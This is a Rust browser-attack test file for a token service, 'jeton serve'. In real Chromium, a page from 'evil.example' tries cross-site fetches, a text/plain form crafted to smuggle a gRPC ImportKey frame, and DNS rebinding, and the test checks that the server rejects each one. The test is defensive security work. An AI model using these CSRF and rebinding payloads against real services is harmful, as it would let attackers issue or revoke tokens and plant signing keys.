//! What a web page of another site can do to `jeton serve`, in a real Chromium: nothing. The same page
//! is shown a careless server, which must hear all of it: so the page itself works.
//! `cargo xtask test --only browser-attack` says in `JETON_CHROMIUM` where Chromium is.

use std::path::Path;

use serde_json::{Value, json};

use super::sometime;
use super::web_site::{Chromium, Hit, PAGE, REPORT, Site};
use crate::binary;
use crate::serving::Serving;

const ISSUE: &str = "/jeton.v1.TokenService/Issue";
const REVOKE: &str = "/jeton.v1.TokenService/Revoke";
const IMPORT: &str = "/jeton.v1.AdminService/ImportKey";

/// Protobuf: a field that has a length, as all here do.
fn field(number: u8, value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![number << 3 | 2];
    let mut length = value.len();
    while length >= 0x80 {
        bytes.push(u8::try_from(length & 0x7f).unwrap() | 0x80);
        length >>= 7;
    }
    bytes.push(u8::try_from(length).unwrap());
    [bytes, value.to_vec()].concat()
}

/// gRPC: a message in its frame.
fn framed(message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).unwrap().to_be_bytes();
    [&[0][..], &length, message].concat()
}

/// `Issue` for the profile `access` and the subject `planted`.
fn issue_frame() -> Vec<u8> {
    framed(&[field(2, b"access"), field(3, b"planted")].concat())
}

/// `Revoke` of all tokens of alice.
fn revoke_frame() -> Vec<u8> {
    framed(&field(4, b"alice"))
}

/// A server with a token of alice's, and what it looks like from outside.
struct World {
    folder: tempfile::TempDir,
    server: Serving,
    token: String,
    keys: String,
}

impl World {
    fn any_port() -> World {
        World::start(0, 0)
    }

    fn start(port: u16, admin_port: u16) -> World {
        let folder = tempfile::tempdir().unwrap();
        let [listen, admin_listen] = [port, admin_port].map(|port| format!("127.0.0.1:{port}"));
        let args = ["--listen", &listen, "--admin-listen", &admin_listen];
        let server = Serving::start(folder.path(), &args);
        let data = server.address();
        let call = [
            "token",
            "issue",
            "--server",
            &data,
            "--profile",
            "access",
            "--subject",
            "alice",
        ];
        let token = binary::line(folder.path(), &call);
        let keys = get(&data, "/.well-known/jwks.json");
        assert!(keys.contains("\"kid\""), "{keys}");
        World {
            folder,
            server,
            token,
            keys,
        }
    }

    /// Nothing has been issued but alice's token, which is good, and no key was planted.
    fn is_untouched(&self) {
        let data = self.server.address();
        assert_eq!(
            get(&data, "/.well-known/jwks.json"),
            self.keys,
            "a key was planted"
        );
        let verify = [
            "token",
            "verify",
            "--server",
            &data,
            "--audience",
            "api",
            &self.token,
        ];
        binary::succeeds(self.folder.path(), &verify, b"");
        let metrics = get(&self.server.admin_address(), "/metrics");
        assert!(
            metrics.contains("\njeton_tokens_issued_total 1\n"),
            "a token was issued"
        );
    }
}

/// What curl, which is no browser, gets.
fn get(address: &str, path: &str) -> String {
    let mut curl = std::process::Command::new("curl");
    let output = curl
        .args(["-sS", &format!("{address}{path}")])
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// A page that does that, and says how it went to a site. `DATA` is what the script calls `data`.
fn page(script: &str, data: &Value) -> String {
    format!(
        "<!doctype html><title>another site</title><body><script>\n\
         const data = {data};\n\
         const sleep = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));\n\
         const report = (said) => fetch(data.report, {{ method: 'POST', mode: 'no-cors', body: JSON.stringify(said) }});\n\
         (async () => {{\n{script}\n}})().then(report, (error) => report({{ error: String(error) }}));\n\
         </script></body>"
    )
}

fn reported(hit: &Hit) -> Value {
    let said: Value = serde_json::from_slice(&hit.body).unwrap();
    assert!(
        said.get("error").is_none(),
        "the page itself failed: {said}"
    );
    said
}

/// A page that is shown after the addresses in it are known.
fn visit(name: &str, careless: &Site, script: &str, data: Value) -> Value {
    visit_until(name, careless, script, data, || true)
}

/// The same, until this is true. What the browser has not sent by then is lost.
fn visit_until(
    name: &str,
    careless: &Site,
    script: &str,
    mut data: Value,
    is_sent: impl Fn() -> bool,
) -> Value {
    let reports = Site::start(0, "");
    data["report"] = format!("{}{REPORT}", reports.url()).into();
    let site = Site::start(0, &page(script, &data));
    let _chromium = Chromium::open(&format!("http://{name}:{}{PAGE}", site.port()));
    let said = reported(&reports.wait_for(REPORT));
    assert!(sometime(is_sent), "it is not sent");
    assert!(
        careless.hits(PAGE).is_empty(),
        "the careless server is another site"
    );
    said
}

#[test]
#[ignore = "needs Chromium: cargo xtask test --only browser-attack"]
fn fetch_from_another_site_changes_nothing() {
    let world = World::any_port();
    let careless = Site::start(0, "");
    let data = world.server.address();
    let data = json!({
        "servers": [careless.url(), data],
        "calls": [[ISSUE, issue_frame()], [REVOKE, revoke_frame()]],
    });
    let script = "
        const kinds = [];
        for (const server of data.servers)
          for (const [path, bytes] of data.calls)
            for (const type of ['text/plain', 'application/x-www-form-urlencoded', '']) {
              const headers = type ? { 'content-type': type } : {};
              const body = new Uint8Array(bytes);
              const answer = await fetch(server + path, { method: 'POST', mode: 'no-cors', headers, body });
              kinds.push(answer.type);
            }
        return { kinds };";
    let said = visit("evil.example", &careless, script, data);
    assert_eq!(said["kinds"].as_array().unwrap().len(), 12, "{said}");
    for (path, frame) in [(ISSUE, issue_frame()), (REVOKE, revoke_frame())] {
        let hits = careless.hits(path);
        assert_eq!(hits.len(), 3, "{hits:?}");
        assert!(hits.iter().all(|hit| hit.body == frame), "{hits:?}");
        assert_eq!(hits[0].header("content-type"), "text/plain");
        assert!(hits[0].header("origin").starts_with("http://evil.example:"));
    }
    world.is_untouched();
}

/// `ImportKey` as a form that is posted as text can carry it: NAME=VALUE and the end of a line. All of it
/// is UTF-8, and no byte is a line's end but the last two.
fn import_form(iss: &str, jwk: &Value) -> (String, String) {
    let text = jwk.to_string();
    // Spaces behind the JSON until each length can be written so.
    for spaces in 0..4096 {
        let private_key = format!("{text}{}\r\n", " ".repeat(spaces));
        let length = private_key.len();
        // Three bytes in the place of two: the first two are one character, and the last is NUL.
        let length =
            [length & 0x7f | 0x80, length >> 7 | 0x80, 0].map(|byte| u8::try_from(byte).unwrap());
        // The key of field 1 would end a line. Behind a field that nobody knows it is half a character, and
        // has two bytes.
        let message = [
            &[0x7a, 1, 0xc2, 0x8a, 0][..],
            &[u8::try_from(iss.len()).unwrap()],
            iss.as_bytes(),
            &field(2, b"ES256"),
            &[0x1a],
            &length,
            private_key.as_bytes(),
        ]
        .concat();
        let Ok(frame) = String::from_utf8(framed(&message)) else {
            continue;
        };
        let form = frame.strip_suffix("\r\n").unwrap();
        if let Some((name, value)) = form.split_once('=')
            && !form.contains(['\r', '\n'])
        {
            return (name.to_owned(), value.to_owned());
        }
    }
    panic!("no form carries it");
}

fn private_jwk(folder: &Path) -> Value {
    let new = ["key", "new", "--alg", "ES256", "--kid", "planted=1"];
    serde_json::from_slice(&binary::succeeds(folder, &new, b"")).unwrap()
}

#[test]
#[ignore = "needs Chromium: cargo xtask test --only browser-attack"]
fn form_from_another_site_plants_no_key() {
    let world = World::any_port();
    let careless = Site::start(0, "");
    let iss = world.server.address();
    let (name, value) = import_form(&iss, &private_jwk(world.folder.path()));
    let data = json!({
        "servers": [careless.url(), world.server.admin_address()],
        "path": IMPORT, "name": name, "value": value,
    });
    let script = "
        for (const server of data.servers) {
          const frame = document.createElement('iframe');
          frame.name = server;
          const form = document.createElement('form');
          Object.assign(form, { method: 'POST', action: server + data.path, enctype: 'text/plain', target: server });
          const input = document.createElement('textarea');
          input.name = data.name;
          input.value = data.value;
          form.append(input);
          document.body.append(frame, form);
          await sleep(100);
          // What is no page is downloaded, and never loaded.
          const loaded = new Promise((done) => frame.addEventListener('load', done, { once: true }));
          form.submit();
          await Promise.race([loaded, sleep(3000)]);
        }
        return {};";
    let is_sent = || {
        let metrics = get(&world.server.admin_address(), "/metrics");
        let is_blocked = !metrics.contains("\njeton_requests_blocked_total 0\n");
        is_blocked && !careless.hits(IMPORT).is_empty()
    };
    visit_until("evil.example", &careless, script, data, is_sent);
    let hits = careless.hits(IMPORT);
    let [hit] = &hits[..] else {
        panic!("one form: {hits:?}");
    };
    assert_eq!(
        (hit.method.as_str(), hit.header("content-type")),
        ("POST", "text/plain")
    );
    assert_eq!(hit.body, format!("{name}={value}\r\n").as_bytes());
    // By a page of another address of this machine too, whose `Origin` is no name.
    world.is_untouched();
}

/// The page's server has ended, its name is now that of the service, and the page asks again: for the
/// browser both are one site.
const REBOUND: &str = "
    let first;
    for (;;) {
      try {
        first = await fetch('/livez', { cache: 'no-store' });
        if ((await first.clone().text()) !== 'careless' || data.is_careless) break;
      } catch {}
      await sleep(100);
    }
    const read = async (path, options) => {
      const answer = await fetch(path, { cache: 'no-store', ...options });
      return [answer.status, await answer.text()];
    };
    const answers = { live: [first.status, await first.text()] };
    for (const [name, path, bytes] of data.calls) {
      const body = new Uint8Array(bytes);
      for (const type of ['application/grpc', 'application/grpc+proto', 'text/plain'])
        answers[`${name} ${type}`] = await read(path, { method: 'POST', headers: { 'content-type': type }, body });
    }
    for (const path of data.pages) answers[path] = await read(path);
    for (const path of ['/introspect', '/revoke'])
      answers[path] = await read(path, { method: 'POST', body: new URLSearchParams({ token: data.token }) });
    return answers;";

fn rebound_data(token: &str, report: &Site, is_careless: bool) -> Value {
    json!({
        "report": format!("{}{REPORT}", report.url()),
        "is_careless": is_careless,
        "token": token,
        "calls": [["issue", ISSUE, issue_frame()], ["revoke", REVOKE, revoke_frame()], ["import", IMPORT, [0]]],
        "pages": ["/readyz", "/metrics", "/.well-known/jwks.json"],
    })
}

#[test]
#[ignore = "needs Chromium: cargo xtask test --only browser-attack"]
fn rebound_page_reads_and_changes_nothing() {
    // Before: a server that does not look at the name it is called by is read by the page.
    let reports = Site::start(0, "");
    let site = Site::start(0, &page(REBOUND, &rebound_data("none", &reports, true)));
    let port = site.port();
    let chromium = Chromium::open(&format!("http://evil.example:{port}{PAGE}"));
    site.wait_for(PAGE);
    let said = reported(&reports.wait_for(REPORT));
    assert_eq!(said["/metrics"], json!([200, "careless"]));
    assert_eq!(said["issue application/grpc"], json!([200, "careless"]));
    assert_eq!(site.hits(ISSUE).len(), 3);
    drop((chromium, site));

    // The same page, of a site that ends; a service takes its port: the data listener, or the admin one.
    for is_admin in [false, true] {
        let reports = Site::start(0, "");
        let site = Site::start(0, &page(REBOUND, &rebound_data("x.y.z", &reports, false)));
        let port = site.port();
        let _chromium = Chromium::open(&format!("http://evil.example:{port}{PAGE}"));
        site.wait_for("/livez");
        drop(site);
        let world = if !is_admin {
            World::start(port, 0)
        } else {
            World::start(0, port)
        };
        let said = reported(&reports.wait_for(REPORT));
        let answers = said.as_object().unwrap();
        assert!(answers.len() > 10, "{said}");
        for (what, answer) in answers {
            assert_eq!(answer[0], 421, "{what}: {answer}");
            assert!(answer[1].as_str().unwrap().contains("`hosts`"), "{answer}");
        }
        world.is_untouched();
    }
}
